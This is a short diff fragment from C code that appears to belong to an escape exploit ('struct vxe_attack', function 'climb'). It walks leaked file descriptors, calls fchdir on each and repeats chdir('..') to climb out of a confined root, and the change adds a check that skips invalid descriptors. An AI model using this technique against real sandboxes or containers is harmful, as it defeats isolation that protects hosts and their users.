@@ -253,7 +253,7 @@ static void climb(struct vxe_attack *attack)
 		before = root_identity();
 	}
 	for (int fd = 0; fd < 256; fd++) {
-		if (sys1(SYS_fchdir, fd) < 0)
+		if (sys3(SYS_fcntl, fd, F_GETFD, 0) == -EBADF || sys1(SYS_fchdir, fd) < 0)
 			continue;
 		for (int i = 0; i < 64; i++)
 			sys1(SYS_chdir, "..");
